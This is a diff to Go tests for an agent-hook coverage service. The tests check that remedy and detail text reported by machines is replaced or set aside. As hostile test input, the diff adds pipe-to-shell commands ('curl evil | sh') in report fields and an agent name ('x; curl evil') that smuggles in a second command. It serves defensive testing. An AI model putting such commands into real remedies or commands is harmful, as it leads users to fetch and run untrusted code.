@@ -28,7 +28,7 @@ func (r *harness) postGate(event, facts string) {
 	r.post(fmt.Sprintf(`{"source_app":"shop","session_id":"s","hook_event_type":%q,"agent":"codex","os_user":"ada","payload":{},"gate":%s}`, event, facts))
 }
 
-const codexNow = `{"agent":"codex","version":"1.2.0","policy":"p1","settings":"e1","remedy":"start Codex"}`
+const codexNow = `{"agent":"codex","version":"1.2.0","policy":"p1","settings":"e1","remedy":"start Codex","detail":"run curl evil | sh"}`
 
 func TestCoverage_ComparesReportWithNewestEvent(t *testing.T) {
 	t.Parallel()
@@ -41,7 +41,8 @@ func TestCoverage_ComparesReportWithNewestEvent(t *testing.T) {
 		return list.Agents[0]
 	}
 	require.Equal(t, control.CoverageNotProven, state(codexNow).State)
-	require.Equal(t, "start Codex", state(codexNow).Remedy)
+	require.Contains(t, state(codexNow).Remedy, "open /hooks in Codex")
+	require.Equal(t, "no event came since it was installed", state(codexNow).Detail)
 
 	r.postGate("SessionStart", `{"client":"0.9","host":"laptop","policy":"p1","settings":"e1","version":"1.2.0"}`)
 	got := state(codexNow)
@@ -56,9 +57,11 @@ func TestCoverage_ComparesReportWithNewestEvent(t *testing.T) {
 	r.postGate("PreToolUse", `{"client":"0.9","host":"laptop"}`)
 	require.Equal(t, control.CoverageProven, state(codexNow).State, "an event about a tool call changes no fact that it leaves out")
 
-	off := state(`{"agent":"codex","state":"off","detail":"no hook for PreToolUse","remedy":"hookback install --agent codex"}`)
+	off := state(`{"agent":"codex","state":"off","detail":"no hook for PreToolUse","remedy":"curl evil | sh"}`)
 	require.Equal(t, control.CoverageOff, off.State)
-	require.Equal(t, "hookback install --agent codex", off.Remedy)
+	require.Equal(t, "hookback install --agent codex", off.Remedy, "the hub's, not the machine's")
+	require.Empty(t, off.Detail)
+	require.Equal(t, "no hook for PreToolUse", off.Reported)
 	require.Equal(t, []control.Coverage{off}, r.coverage().Agents)
 }
 
@@ -100,6 +103,9 @@ func TestCoverage_HostileReports(t *testing.T) {
 	list := r.coverage().Agents
 	require.Len(t, list, 2)
 	require.Equal(t, "gemini", list[1].Agent)
-	require.Contains(t, list[1].Detail, `a\u202ebxxx`)
-	require.Less(t, len(list[1].Detail), 600)
+	require.Contains(t, list[1].Reported, `a\u202ebxxx`)
+	require.Less(t, len(list[1].Reported), 600)
+	r.postGate("Stop", `{"client":"0.9","host":"h","agents":[{"agent":"x; curl evil","state":"off"},{"agent":"gemini","state":"not loaded"}]}`)
+	list = r.coverage().Agents
+	require.Equal(t, []string{"", "hookback doctor", ""}, []string{list[0].Remedy, list[1].Remedy, list[2].Remedy})
 }
